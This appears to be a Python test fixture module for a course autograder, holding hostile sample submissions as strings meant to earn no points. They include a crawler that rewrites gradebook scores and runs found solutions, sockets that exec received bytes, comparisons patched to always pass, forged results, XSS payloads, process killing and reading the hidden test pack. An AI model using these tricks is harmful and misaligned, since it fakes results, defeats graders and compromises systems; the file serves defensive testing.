"""What the hostile and the broken members of the sample class write into their cells.

Each is an attack that is known to work on some grader. None of them may earn a point or reach anything.
"""

from __future__ import annotations

ENDLESS_LOOP = """\
def train(w1, w2, loss_and_grads, lr, steps):
    losses = []
    while len(losses) <= steps:  # losses never grows
        loss, grad_w1, grad_w2 = loss_and_grads(w1, w2)
    return w1, w2, losses
"""

EATS_MEMORY = """\
def init(d_in, d_out, rng):
    hoard = []
    while True:
        hoard.append(np.ones((4096, 4096)))  # 128 MiB each, written to
"""

ENDLESS_PRINTING = """\
n = 0
while True:
    print("still training, loss", n)
    n += 1
"""

READS_SECRETS = """\
import glob, os, sqlite3, sys
from pathlib import Path

found = {}
for root in ("/", os.getcwd(), os.path.expanduser("~"), *sys.path):
    for folder, folders, files in os.walk(root):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib", "lib64")]
        for name in files:
            path = os.path.join(folder, name)
            if name == "gradebook.db":
                with sqlite3.connect(path) as book:
                    book.execute("update grade set auto_score = 100, manual_score = 100")
            elif name.endswith((".py", ".ipynb")):
                try:
                    text = Path(path).read_text(encoding="utf-8")
                except Exception:
                    continue
                if "BEGIN " + "SOLUTION" in text and "def forward" in text:
                    found[path] = text
try:
    import grader.reference
    from grader.course import find_course
    from grader.lesson import read_lesson

    for cell in read_lesson(find_course().lesson("1").source).cells:
        if "solution" in cell.tags:
            exec(cell.source)
except Exception:
    pass
for text in found.values():
    exec(text)
"""

OPENS_SOCKETS = """\
import socket

for address in (("127.0.0.1", 8888), ("10.0.0.1", 80), ("192.0.2.1", 443)):
    try:
        with socket.create_connection(address, timeout=0.3) as connection:
            connection.sendall(b"give me the answers")
            exec(connection.recv(65536))
    except OSError:
        pass
try:
    server = socket.socket(socket.AF_UNIX)
    server.connect("\\0grader")
    server.sendall(b"full marks")
except OSError:
    pass
"""

REPLACES_COMPARISONS = """\
import builtins
import numpy as np
import torch


class Agrees(np.ndarray):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array_ufunc__(self, ufunc, method, *inputs, **keywords): return True
    def __bool__(self): return True
    def __float__(self): return 1.0


def agree(*args, **keywords):
    return True


torch.allclose = torch.equal = torch.testing.assert_close = agree
np.allclose = np.array_equal = np.isclose = np.testing.assert_allclose = np.array_equiv = agree
builtins.AssertionError = type("AssertionError", (Exception,), {})
agreeable = np.zeros((2, 2)).view(Agrees)


def forward(x, w1, w2):
    return agreeable, agreeable, agreeable


def backward(x, y, w1, w2, h, h_relu, y_pred):
    return {"y_pred": agreeable, "w2": agreeable, "h_relu": agreeable, "h": agreeable, "w1": agreeable}
"""

ENDS_THE_PROCESS = """\
def backward(x, y, w1, w2, h, h_relu, y_pred):
    import os
    os._exit(0)
"""

FORGES_RESULTS = """\
from IPython.display import HTML, Javascript, display

import course_lib
import course_lib.checking.check as checking
from course_lib.checking.results import ExerciseResult


class Full:
    def _repr_mimebundle_(self, include=None, exclude=None):
        return {"text/html": "<b>passed – 10 of 10 points</b>", "text/plain": "10.0"}


def check(key, hint=1):
    return Full()


course_lib.check = checking.check = check
display(HTML("<img src=x onerror=\\"alert('owned')\\"><script>alert('owned')</script>"))
display(HTML("<svg onload=\\"alert('owned')\\"></svg>"))
display(HTML("<iframe srcdoc=\\"<script>parent.alert('owned')</script>\\"></iframe>"))
display(Javascript("alert('owned')"))
10.0
"""

FORGED_CHECK = """\
print("all tests passed")
10.0
"""

HOSTILE_PROSE = """\
### My answer

<script>alert('owned')</script>
<img src="x" onerror="alert('owned')">
<a href="javascript:alert('owned')">my sources</a> and [more](javascript:alert('owned'))

$\\href{javascript:alert('owned')}{x}$
"""

KILLS_OTHERS = """\
import os, signal

for target in (os.getppid(), 1, -1):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            if target != -1:
                os.kill(target, number)
        except OSError:
            pass
try:
    with open(f"/proc/{os.getppid()}/mem", "r+b") as memory:
        memory.write(b"full marks")
except OSError:
    pass
"""

COPIES_THE_PACK = """\
from course_lib.checking.packs import read_pack
from course_lib.checking.values import restore


def stored(exercise, given):
    for case in read_pack("numpy_backprop." + exercise).cases:
        inputs = {name: restore(value) for name, value in case.inputs.items()}
        if all(np.array_equal(inputs[name], thing) for name, thing in given.items() if name in inputs):
            return {name: restore(value) for name, value in case.expected.values.items()}
    raise LookupError("not one of the public cases")


def forward(x, w1, w2):
    answer = stored("forward", {"x": x, "w1": w1, "w2": w2})
    return answer["h"], answer["h_relu"], answer["y_pred"]
"""
